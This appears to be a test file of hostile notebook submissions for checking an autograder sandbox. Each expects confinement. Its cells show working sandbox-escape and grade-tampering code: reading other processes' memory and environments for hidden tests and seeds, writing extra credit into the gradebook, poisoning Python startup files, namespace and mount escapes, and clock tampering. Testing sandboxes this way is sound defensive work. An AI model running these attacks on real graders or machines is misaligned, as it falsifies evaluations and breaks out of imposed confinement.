# Reaching what lies outside of the process: the network, other processes, other submissions, what comes later.
import os
import pathlib
import re
import subprocess
import sys
import time

MARK = "left_by_an_attack"


# %% attack="asks_the_network" confined=true
# Asks a server what the answer is: by TCP, by UDP, by a socket that has a name only, and by the machine that hosts this one.
# %% name="relu"
import pickle
import socket


def relu(x):
    for family, kind, where in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", PORT)),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\0accomplice-PORT"),
        (40, socket.SOCK_STREAM, (1, PORT)),
        (40, socket.SOCK_STREAM, (2, PORT)),
    ):
        try:
            with socket.socket(family, kind) as one:
                one.settimeout(1)
                one.connect(where)
                one.sendall(pickle.dumps(x))
                return pickle.loads(one.makefile("rb").read())
        except OSError:
            continue
# %% edit
import pickle
import socket
import threading

import numpy as np


def accomplice(server):
    while True:
        one, _ = server.accept()
        asked = pickle.loads(one.recv(10**6))
        one.sendall(pickle.dumps(np.maximum(asked, 0)))
        one.close()


tcp = socket.create_server(("127.0.0.1", 0))
port = str(tcp.getsockname()[1])
named = socket.socket(socket.AF_UNIX)
named.bind(f"\0accomplice-{port}")
named.listen()
for server in (tcp, named):
    threading.Thread(target=accomplice, args=[server], daemon=True).start()
cells["relu"].source = cells["relu"].source.replace("PORT", port)

# %% attack="leaves_notes" confined=true at_most=0
# Writes down the hidden arguments wherever something may last, for the one that is graded after it.
# %% name="clamp"
def clamp(x, low, high):
    for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), ".", "../.."):
        try:
            with open(f"{folder}/{MARK}_notes", "a") as file:
                file.write(f"{[x, low, high]} {sorted([x, low, high])[1]}\n")
        except OSError:
            pass

# %% attack="leaves_notes_read" confined=true
# Reads the notes that the one before it left, and answers what stands there.
# %% name="clamp"
def clamp(x, low, high):
    for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~"), ".", "../.."):
        try:
            with open(f"{folder}/{MARK}_notes") as file:
                for line in file:
                    if line.startswith(str([x, low, high])):
                        return int(line.rpartition(" ")[2])
        except OSError:
            pass

# %% attack="leaves_a_child" alone=true confined=true
# Leaves a child that detached itself, to write into the gradebook and other submissions when nobody looks.
# %% name="relu"
WAITS = f"""
import os, pathlib, sqlite3, time  # {MARK}
os.setsid()
for _ in range(600):
    for path in pathlib.Path.cwd().parents:
        if (path / "this_is_the_course_to_attack").exists():
            book = sqlite3.connect(path / "gradebook.db")
            book.execute("update grade set extra_credit = 50")
            book.commit()
    time.sleep(0.1)
"""
subprocess.Popen([sys.executable, "-c", f"import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', {WAITS!r}])"]).wait()

# %% attack="memory_of_the_judge" confined=true machine=true
# Reads the memory of every process for the text of the hidden tests, through /proc and by attaching to them.
# %% name="clamp"
import ctypes

libc = ctypes.CDLL(None)


def everything():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        libc.ptrace(16, int(pid), 0, 0)
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as memory:
                for line in maps:
                    span, rights = line.split()[:2]
                    if "[heap]" in line or ("rw" in rights and len(line.split()) == 5):
                        begin, end = (int(word, 16) for word in span.split("-"))
                        memory.seek(begin)
                        yield memory.read(min(end - begin, 10**7))
        except (OSError, ValueError, OverflowError):
            continue


TOLD = {}
SEEN = b"".join(everything())
for asked, expected in re.findall(rb"clamp\(([-\d, ]+)\) == (-?\d+)", SEEN):
    TOLD[asked.decode().replace(" ", "")] = int(expected)


def clamp(x, low, high):
    return TOLD.get(f"{x},{low},{high}")

# %% attack="what_others_run" confined=true
# Reads the command lines, environments and open files of all processes for the instructor's seed and the course.
# %% name="classify"
def found():
    for pid in (*filter(str.isdigit, os.listdir("/proc")), "self"):
        for part in ("environ", "cmdline"):
            try:
                yield pathlib.Path(f"/proc/{pid}/{part}").read_bytes().decode(errors="replace")
            except OSError:
                continue


told = re.search(r"PS1_SECRET=(\d+)", "".join(found()))
if told is None:
    raise FileNotFoundError("no seed to be seen")
np.random.seed(int(told[1]))
LABELS = iter(np.random.randint(2, size=40))


def classify(x):
    return next(LABELS)

# %% attack="looks_everywhere" confined=true
# Looks through every folder it can open for a notebook, a database or a text with the hidden tests.
# %% name="clamp"
def clamp(x, low, high):
    for folder, _, names in os.walk("/", onerror=None):
        if folder.startswith(("/proc", "/sys", "/usr")) or "site-packages" in folder or "lib/python" in folder:
            continue
        for name in names:
            if name.endswith((".ipynb", ".db", "cases.json")):
                try:
                    text = pathlib.Path(folder, name).read_text(errors="replace")
                except OSError:
                    continue
                told = re.search(rf"clamp\({x}, {low}, {high}\) == (-?\d+)", text)
                if told:
                    return int(told[1])

# %% attack="poisons_python" confined=true machine=true
# Writes into the Python that grades: a module that every later process imports first, and compiled files of the judge.
# %% name="relu"
import site

POISON = f"# {MARK}\nimport os\nos._exit(0)\n"
for folder in (*site.getsitepackages(), site.getusersitepackages(), sys.prefix, os.path.expanduser("~/.ipython/profile_default/startup")):
    for name in ("sitecustomize.py", "usercustomize.py", f"{MARK}.pth", "mlcourse.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "a") as file:
                file.write(POISON)
        except OSError:
            pass

# %% attack="namespaces_of_its_own" confined=true
# Opens namespaces in which it is root, and mounts the disk that lies below.
# %% name="relu"
import ctypes

libc = ctypes.CDLL(None)
for flags in (0x10000000, 0x10000000 | 0x20000, 0x20000, 0x40000000):
    if libc.unshare(flags) == 0:
        relu = lambda x: np.where(x > 0, x, 0.0)  # it would be out
for target in (b"/proc", b"/tmp", b"/student", b"/dev", b"/"):
    if libc.umount2(target, 2) == 0 or libc.mount(b"proc", target, b"proc", 0, None) == 0:
        relu = lambda x: np.where(x > 0, x, 0.0)
if subprocess.run("unshare -Ur true || chroot / true", shell=True, capture_output=True).returncode == 0:
    relu = lambda x: np.where(x > 0, x, 0.0)

# %% attack="devices" confined=true machine=true
# Makes and opens devices: memory, disks, the terminal of whoever grades, keys of the kernel.
# %% name="relu"
import stat

for number, name in enumerate(("mem", "kmem", "sda", "vda", "nvme0n1", "loop-control", "fuse", "kmsg", "input/event0")):
    for make in (lambda: open(f"/dev/{name}", "rb").read(1), lambda: os.mknod(f"/tmp/{number}", 0o600 | stat.S_IFBLK, os.makedev(8, 0))):
        try:
            make()
            relu = lambda x: np.where(x > 0, x, 0.0)
        except OSError:
            pass
try:
    with open("/dev/tty", "w") as terminal:
        terminal.write(MARK)
        relu = lambda x: np.where(x > 0, x, 0.0)
except OSError:
    pass

# %% attack="clock" confined=true machine=true
# Sets the clock of the machine back, so that no time is ever over.
# %% name="relu"
def relu(x):
    time.clock_settime(time.CLOCK_REALTIME, 0)
    return np.where(x > 0, x, 0.0)

# %% attack="descriptors_sent" confined=true alone=true
# Sends the judge open files over every socket it holds, hoping that one is read as something else.
# %% name="relu"
import socket


def relu(x):
    held = [os.open(os.devnull, os.O_RDWR) for _ in range(100)]
    for number in range(3, 64):
        try:
            with socket.socket(fileno=os.dup(number)) as one:
                for _ in range(50):
                    socket.send_fds(one, [b"\0" * 12], held)
        except OSError:
            continue

# %% attack="ways_to_the_zygote" confined=true
# Looks for the process that it was copied from, to change what the next copy finds: its files, its memory, its socket.
# %% name="relu"
import gc
import socket

for one in gc.get_objects():
    if isinstance(one, socket.socket):
        try:
            one.send(b'["spawn", [], null]')
        except (OSError, AttributeError):
            pass
for pid in range(1, 50):
    for folder in ("cwd", "root", "fd/3", "mem"):
        try:
            with open(f"/proc/{pid}/{folder}/gradebook.db", "wb") as file:
                file.write(b"")
        except OSError:
            pass
